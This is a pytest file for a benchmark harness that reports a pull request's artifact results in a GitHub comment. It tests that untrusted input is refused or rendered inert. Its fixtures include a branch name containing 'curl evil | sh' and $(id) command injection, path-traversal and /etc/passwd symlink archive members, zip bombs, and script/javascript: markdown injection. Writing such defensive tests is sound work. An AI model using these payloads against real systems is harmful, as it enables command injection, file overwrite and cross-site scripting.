"""What a pull request measured is told on it once, and nothing that its artifact holds does anything but be shown."""

from __future__ import annotations

import io
import json
import re
import stat
import zipfile
from pathlib import Path

import pytest

from harness.errors import BenchError
from harness.nightly import report
from harness.nightly.github import Api
from harness.stacks.locks import get_stack
from harness.suite import inside
from tests import site_results as make
from tests.site_results import STAMP

HEAD = "a" * 40
BRANCH = 'x"; curl evil | sh #$(id)`id`\n::set-output name=a::b'
RECORD = f"records/pull-request/v6.4.0/ppca-500-pymc-c.{STAMP}.json"


@pytest.fixture(scope="module")
def results(tmp_path_factory) -> dict[str, bytes]:
    """The files of a real artifact: results of one stack."""
    folder = tmp_path_factory.mktemp("artifact")
    cells = [("ppca", 500, "pymc-c"), ("ppca", 500, "nutpie-numba")]
    make.build(folder, [get_stack("v6.4.0")], cells, machine="pull-request")
    files = {p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*.json")}
    return {name: content for name, content in files.items() if name != "asv/benchmarks.json"}


def zipped(files: dict[str, bytes]) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return content.getvalue()


def event(folder: Path, **changes) -> Path:
    run_event = {
        "id": 7, "head_sha": HEAD, "head_branch": BRANCH, "head_repository": {"owner": {"login": "someone"}},
        "pull_requests": [{"number": 666}],
    }  # fmt: skip
    path = folder / "event.json"
    path.write_text(json.dumps({"workflow_run": run_event | changes}))
    return path


class GitHub:
    """What GitHub knows: a pull request of a fork, another one from the same branch, and the run's artifact."""

    def __init__(self, api, content: bytes, size: int | None = None, comments: list | None = None) -> None:
        self.api, self.content, self.comments = api, content, comments or []
        self.size = len(content) if size is None else size
        labels = [{"name": "run-benchmarks"}]
        self.pulls = [
            {"number": number, "head": {"sha": sha}, "labels": labels} for number, sha in ((5, "b" * 40), (8, HEAD))
        ]
        self.artifacts = [{"name": report.ARTIFACT, "id": 3, "size_in_bytes": self.size}]
        api.answer = self.answer

    def answer(self, method: str, path: str):
        if method != "GET":
            return 201, {}
        for start, found in (
            ("/pulls", self.pulls), ("/actions/runs/7/artifacts", {"artifacts": self.artifacts}),
            ("/actions/artifacts/3/zip", self.content), ("/issues/8/comments", self.comments),
        ):  # fmt: skip
            if path.startswith(start):
                return 200, found
        return 404, {}

    def report(self, folder: Path, **changes) -> str:
        return report.report(event(folder, **changes), Api("o/r", "secret", self.api.address))

    @property
    def written(self) -> list[tuple]:
        return [asked for asked in self.api.asked if asked[0] != "GET"]


def test_what_was_measured_is_told_on_the_pull_request_whose_commit_it_is(api, results, tmp_path):
    github = GitHub(api, zipped(results))
    assert github.report(tmp_path) == f"Told pull request 8 what was measured at {HEAD[:12]}."
    ((method, path, document),) = github.written
    assert (method, path) == ("POST", "/issues/8/comments")
    assert "**PyMC 6.4.0, ` ppca `, n=500**" in document["body"]
    assert "| ` nutpie-numba ` |" in document["body"]
    assert "https://github.com/o/r/actions/runs/7" in document["body"]


def test_there_is_one_comment_which_is_replaced_and_nobody_elses_is_touched(api, results, tmp_path):
    theirs = {"id": 1, "user": {"type": "User"}, "body": f"look {report._MARK}"}
    ours = {"id": 2, "user": {"type": "Bot"}, "body": f"old\n\n{report._MARK}\n"}
    github = GitHub(api, zipped(results), comments=[theirs, ours])
    github.report(tmp_path)
    ((method, path, _),) = github.written
    assert (method, path) == ("PATCH", "/issues/comments/2")


def test_without_a_pull_request_at_that_commit_nobody_is_told(api, results, tmp_path):
    github = GitHub(api, zipped(results))
    github.pulls = github.pulls[:1]
    assert "nobody to tell" in github.report(tmp_path)
    assert github.written == []


def test_without_the_label_nobody_is_told_whatever_a_workflow_of_the_pull_request_has_left(api, results, tmp_path):
    github = GitHub(api, zipped(results))
    github.pulls[1]["labels"] = [{"name": "bug"}]
    assert "nobody to tell" in github.report(tmp_path)
    assert github.written == []


def test_when_the_fork_is_gone_nobody_is_told(api, results, tmp_path):
    github = GitHub(api, zipped(results))
    assert "nobody to tell" in github.report(tmp_path, head_repository=None)
    assert github.written == []


def test_of_a_run_that_was_run_again_the_newest_results_are_told(api, results, tmp_path):
    github = GitHub(api, zipped(results))
    github.artifacts = [{"name": report.ARTIFACT, "id": n, "size_in_bytes": 1} for n in (2, 3, 1)]
    github.report(tmp_path)
    assert any(path.startswith("/actions/artifacts/3/") for _, path, _ in api.asked)


def test_without_results_there_is_nothing_to_tell(api, results, tmp_path):
    github = GitHub(api, zipped(results))
    github.artifacts = [{"name": "site", "id": 3, "size_in_bytes": 1}]
    assert "Nothing was measured" in github.report(tmp_path)
    assert github.written == []


def test_an_artifact_that_is_declared_a_gigabyte_is_not_downloaded(api, results, tmp_path):
    github = GitHub(api, zipped(results), size=10**9)
    with pytest.raises(BenchError, match="are 1000 MB, more than the 20 MB"):
        github.report(tmp_path)
    assert not any("zip" in path for _, path, _ in api.asked)
    assert github.written == []


def test_an_artifact_that_is_larger_than_declared_is_not_taken(api, tmp_path):
    github = GitHub(api, b"x" * (report.MOST_ZIPPED + 1), size=10)
    with pytest.raises(BenchError, match="larger than 20 MB"):
        github.report(tmp_path)
    assert github.written == []


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04", b"no archive", bytes(1000)])
def test_what_is_no_archive_is_refused(tmp_path, content):
    with pytest.raises(BenchError, match="cannot be unpacked"):
        report.unpack(content, tmp_path / "x")


@pytest.mark.parametrize(
    "name",
    [
        "../evil.json", "/etc/cron.d/evil", "records/../../evil", "a/./b", "C:\\evil", "a\\..\\b", "a b", "a\nb", "é",
        "records/" + "x" * 400, "~/.bashrc", "$(id)", "-rf;", "a:b",
    ],
)  # fmt: skip
def test_an_archive_with_a_name_that_leads_elsewhere_is_refused_as_a_whole(tmp_path, name):
    with pytest.raises(BenchError, match="name that leads elsewhere"):
        report.unpack(zipped({"good.json": b"[]", name: b"x"}), tmp_path / "x")
    assert list(tmp_path.rglob("*")) == []


@pytest.mark.parametrize("kind", [stat.S_IFLNK, stat.S_IFIFO, stat.S_IFCHR])
def test_an_archive_with_a_link_or_a_device_is_refused(tmp_path, kind):
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        member = zipfile.ZipInfo("records/x.json")
        member.external_attr = (kind | 0o777) << 16
        archive.writestr(member, "/etc/passwd")
    with pytest.raises(BenchError, match="a link or a device"):
        report.unpack(content.getvalue(), tmp_path / "x")


def test_a_bomb_is_refused_before_anything_is_unpacked(tmp_path):
    bomb = zipped({f"{i}.json": bytes(report.MOST_UNZIPPED // 3) for i in range(4)})
    assert len(bomb) < report.MOST_ZIPPED
    with pytest.raises(BenchError, match="when unpacked"):
        report.unpack(bomb, tmp_path / "x")
    assert list(tmp_path.rglob("*")) == []


def test_a_bomb_that_understates_its_size_is_refused(tmp_path):
    content = bytearray(zipped({"a.json": bytes(1_000_000)}))
    place = content.rindex(b"PK\x01\x02")
    content[place + 24 : place + 28] = (10).to_bytes(4, "little")
    with pytest.raises(BenchError, match="cannot be unpacked"):
        report.unpack(bytes(content), tmp_path / "x")


def test_a_damaged_member_is_refused(tmp_path):
    content = bytearray(zipped({"a.json": b"hello world " * 1000}))
    content[36:40] = b"\xff" * 4
    with pytest.raises(BenchError, match="cannot be unpacked"):
        report.unpack(bytes(content), tmp_path / "x")


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_a_compression_that_is_unpacked_whole_whatever_was_declared_is_refused(tmp_path, method):
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", method) as archive:
        archive.writestr("a.json", bytes(1000))
    with pytest.raises(BenchError, match="a compression that GitHub does not use"):
        report.unpack(content.getvalue(), tmp_path / "x")


def test_an_empty_archive_is_a_comment_that_nothing_was_measured(tmp_path):
    assert "othing valid" in said(tmp_path, {})


def test_tables_of_asv_are_not_read_for_a_comment(tmp_path, results):
    name = next(name for name in results if name.startswith("asv/") and not name.endswith("machine.json"))
    assert name not in said(tmp_path, results | {name: b"["})


def test_of_two_stacks_the_verdicts_come_first_by_what_the_records_say(tmp_path):
    stacks, cells = [get_stack(tag) for tag in ("v6.3.2", "v6.4.0")], [("ppca", 500, "pymc-c")]
    make.build(tmp_path / "measured", stacks, cells, machine="pull-request")
    files = {
        p.relative_to(tmp_path / "measured").as_posix(): p.read_bytes() for p in tmp_path.rglob("records/**/*.json")
    }
    text = said(tmp_path, files)
    verdict, _, medians = text.partition("<details><summary>Medians</summary>")
    assert "**v6.4.0 beside v6.3.2: " in verdict
    assert "| verdict |" in verdict
    assert "**PyMC 6.4.0, ` ppca `, n=500**" in medians


def test_an_archive_of_very_many_or_of_repeated_files_is_refused(tmp_path):
    with pytest.raises(BenchError, match="more than 2000 files"):
        report.unpack(zipped({f"{i}.json": b"" for i in range(report.MOST_FILES + 1)}), tmp_path / "x")
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr("a.json", "1")
        with pytest.warns(UserWarning, match="Duplicate"):
            archive.writestr("a.json", "2")
    with pytest.raises(BenchError, match="two files of one name"):
        report.unpack(content.getvalue(), tmp_path / "x")


def said(folder: Path, files: dict[str, bytes]) -> str:
    """The comment on an artifact of these files."""
    report.unpack(zipped(files), folder / "artifact")
    return report.comment(folder / "artifact", folder / "results", 7, HEAD, "o/r")


HOSTILE = "@pymc-devs/all <script>alert(1)</script> <!-- bench compare --> [x](javascript:1) ``` \n\n# big\n| a | b |"


def bare(text: str) -> str:
    """Markdown without what stands in code."""
    return re.sub(r"(`+) .*? \1", "", text)


def test_hostile_text_in_a_reason_is_shown_and_does_nothing(tmp_path, results):
    protocol = inside()["protocol"]
    trials = make.failed(get_stack("v6.4.0"), "ppca", 500, "pymc-c", HOSTILE, protocol)
    text = said(tmp_path, results | {RECORD: json.dumps(trials).encode()})
    assert "@pymc-devs" in text
    left = bare(text)
    for harm in ("@", "<script", "javascript", "# big", "| a |"):
        assert harm not in left
    assert left.count("<!--") == 1
    assert text.endswith(f"{report._MARK}\n")


@pytest.mark.parametrize(
    "change",
    [
        lambda text: text[:50],
        lambda text: "[" * 200_000,
        lambda text: text.replace('"ok"', '"<b>ok</b>"'),
        lambda text: text.replace('"pymc-c"', '"@all"'),
        lambda text: re.sub(r'"setup_wall_seconds": [\d.]+', '"setup_wall_seconds": 1e999', text),
        lambda text: re.sub(r'"setup_wall_seconds": [\d.]+', '"setup_wall_seconds": NaN', text),
        lambda text: re.sub(r'"n": 500', '"n": 1' + "0" * 5000, text),
        lambda text: re.sub(r'"protocol": \d+', '"protocol": 2', text),
        lambda text: re.sub(r'"lock_sha256": "[0-9a-f]+"', '"lock_sha256": "@all"', text),
        lambda text: "null",
        lambda text: "\ud800".encode("utf-8", "surrogatepass").decode("latin-1"),
    ],
)
def test_a_damaged_or_hostile_record_is_named_and_not_shown(tmp_path, results, change):
    text = said(tmp_path, results | {RECORD: change(results[RECORD].decode()).encode("utf-8", "replace")})
    assert "| ` pymc-c ` |" not in text
    assert "| ` nutpie-numba ` |" in text
    assert Path(RECORD).name in text
    assert "@" not in bare(text)
    assert "<" not in bare(text).replace(report._MARK, "")


def test_files_that_are_no_results_are_named_and_left_alone(tmp_path, results):
    text = said(tmp_path, results | {".github/workflows/evil.yml": b"on: push", "stacks/v9.txt": b"x"})
    assert ".github/workflows/evil.yml: not the name of a result" in text
    assert not (tmp_path / "results/.github").exists()
    assert not (tmp_path / "results/stacks").exists()


def test_a_comment_is_never_longer_than_github_takes(tmp_path, results):
    protocol = inside()["protocol"]
    files = dict(results)
    for i in range(60):
        trials = make.failed(get_stack("v6.4.0"), "ppca", 500, f"b{i}", "x`" * 900, protocol)
        files[f"records/pull-request/v6.4.0/ppca-500-b{i}.{STAMP}.json"] = json.dumps(trials).encode()
    text = said(tmp_path, files)
    assert len(text) < 65_000
    assert text.endswith(f"which the log has.\n\n{report._MARK}\n")


@pytest.mark.parametrize(
    "changes", [{"head_sha": "../../x"}, {"head_sha": HEAD + "\n"}, {"id": "7; id"}, {"head_repository": {}}]
)
def test_an_event_that_is_not_of_a_run_is_one_sentence(api, results, tmp_path, changes):
    with pytest.raises(BenchError, match="workflow_run"):
        GitHub(api, zipped(results)).report(tmp_path, **changes)
    assert api.asked == []
